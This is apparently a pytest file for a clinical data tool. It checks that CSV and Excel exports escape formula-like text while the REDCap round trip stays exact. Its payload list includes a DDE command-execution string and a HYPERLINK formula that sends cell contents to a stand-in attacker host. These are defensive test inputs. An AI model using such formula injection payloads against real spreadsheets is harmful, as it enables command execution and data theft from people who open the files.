"""Formula-like text: spreadsheets never evaluate it, the REDCap round trip stays exact.

Decision (issue 12, item 10): the REDCap CSV is the exchange format and is written exactly;
the CSV files for people and statistics software (``--format csv``, ``queries``) prefix such
text with an apostrophe; the workbook writes it as text cells (see
vo_crf.exchange.spreadsheet_text).
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from accounts import PASSWORDS
from openpyxl import load_workbook

from vo_crf.auth.permissions import Role
from vo_crf.auth.users import CurrentUser
from vo_crf.cli import main
from vo_crf.exchange.redcap_export import export_redcap_csv
from vo_crf.exchange.redcap_import import import_redcap_text
from vo_crf.exchange.stats_export import export_csv
from vo_crf.project import Project
from vo_crf.queries import FieldKey, QueryService
from vo_crf.reports.workbook import export_workbook

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
            "+1+1", "@SUM(1)", "-2+3"]
ADMIN = CurrentUser("admin", Role.ADMIN)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _type_payloads(project: Project, tmp_path: Path) -> list[str]:
    """Type one payload per patient into the radiologist's comment and 'other organism'."""
    export_redcap_csv(project, ADMIN, tmp_path / "ids.csv")
    ids = sorted({r["record_id"] for r in _rows((tmp_path / "ids.csv").read_text("utf-8"))})
    study = project.study
    imaging = study.events_of_form("imaging")[0].unique_name
    micro = study.events_of_form("microbiology")[0].unique_name
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["record_id", "redcap_event_name", "redcap_repeat_instrument",
                     "redcap_repeat_instance", "img_comment", "micro_other"])
    for record_id, payload in zip(ids, PAYLOADS, strict=False):
        writer.writerow([record_id, imaging, "", "", payload, ""])
        writer.writerow([record_id, micro, "", "", "", payload])
    import_redcap_text(project, CurrentUser("nurse", Role.NURSE), out.getvalue(), "typed.csv")
    return ids[:len(PAYLOADS)]


def test_redcap_csv_round_trip_stays_exact(filled: Project, empty: Project,
                                           tmp_path: Path) -> None:
    _type_payloads(filled, tmp_path)
    export_redcap_csv(filled, ADMIN, tmp_path / "first.csv")
    first = (tmp_path / "first.csv").read_text(encoding="utf-8")
    comments = {r["img_comment"] for r in _rows(first)} | {r["micro_other"] for r in _rows(first)}
    assert set(PAYLOADS) <= comments  # written exactly as typed, no apostrophe
    import_redcap_text(empty, ADMIN, first, "first.csv")
    export_redcap_csv(empty, ADMIN, tmp_path / "second.csv")
    assert (tmp_path / "second.csv").read_text(encoding="utf-8") == first


def test_statistics_csv_never_starts_a_text_cell_with_a_formula(filled: Project,
                                                                tmp_path: Path) -> None:
    _type_payloads(filled, tmp_path)
    for labels in (False, True):
        folder = tmp_path / f"labels{labels}"
        folder.mkdir()
        export_csv(filled, ADMIN, folder / "c.csv", labels=labels)
        cells = [cell for path in folder.glob("c*.csv")
                 for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
                 for cell in row]
        for payload in PAYLOADS:
            assert "'" + payload in cells, (labels, payload)
            assert payload not in cells, (labels, payload)
        assert "formula" in (folder / "c_about.txt").read_text(encoding="utf-8")
    export_csv(filled, ADMIN, tmp_path / "d.csv", deidentified=True, date_mode="days")
    onsets = [r["symptom_onset_date"]
              for r in _rows((tmp_path / "d.csv").read_text(encoding="utf-8"))]
    assert onsets and all(int(v) < 0 for v in onsets if v)  # numbers stay numbers


def test_workbook_writes_formula_text_as_text_cells(filled: Project, tmp_path: Path) -> None:
    _type_payloads(filled, tmp_path)
    path = tmp_path / "w.xlsx"
    export_workbook(filled, ADMIN, path)
    sheet = load_workbook(path)["Data long"]
    header = [c.value for c in sheet[1]]
    found = {}
    for name in ("img_comment", "micro_other"):
        column = header.index(name) + 1
        for row in sheet.iter_rows(min_row=2, min_col=column, max_col=column):
            if row[0].value in PAYLOADS:
                found[row[0].value] = row[0].data_type
    assert found == dict.fromkeys(PAYLOADS, "s")
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/"))
    assert b"<f>" not in xml and b"<f " not in xml
    soffice = shutil.which("soffice")
    if soffice is None:
        return  # libreoffice-calc-nogui not installed: the cell types above are the check
    out = tmp_path / "converted"
    subprocess.run([soffice, "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,"
                    "false,-1", "--outdir", str(out), str(path)],
                   check=True, capture_output=True, timeout=300,
                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    text = "".join(p.read_text(encoding="utf-8") for p in out.glob("*Data long*.csv"))
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    for payload in PAYLOADS:  # a formula would show its result (2, 1, #NAME?...) instead
        assert payload in cells, payload


def test_queries_listing_escapes_formula_text(filled: Project, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    ids = _type_payloads(filled, tmp_path)
    event = filled.study.events_of_form("imaging")[0].unique_name
    QueryService(filled, CurrentUser("inv", Role.INVESTIGATOR)).open_query(
        FieldKey(ids[0], event, "imaging", "img_comment"), PAYLOADS[1])
    monkeypatch.setenv("VO_CRF_PASSWORD", PASSWORDS["inv"])
    capsys.readouterr()
    assert main(["queries", "--db", filled.url.removeprefix("sqlite:///"), "--user", "inv"]) == 0
    rows = _rows(capsys.readouterr().out)
    assert rows[0]["text"] == "'" + PAYLOADS[1]
    assert rows[0]["value_at_open"] == "'" + PAYLOADS[0]
